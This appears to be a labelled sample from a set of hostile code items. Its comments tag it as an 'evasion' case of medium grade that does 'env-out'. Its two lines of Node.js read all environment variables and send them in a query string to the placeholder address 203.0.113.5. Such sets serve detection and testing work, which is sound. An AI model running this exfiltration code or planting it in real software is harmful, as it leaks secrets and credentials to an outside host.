// evasion: the environment in a query string
// grade: medium; does: env-out
const k = Object.keys(process.env).map((n) => `${n}=${process.env[n]}`).join('&');
require('http').get('http://203.0.113.5/?' + k);
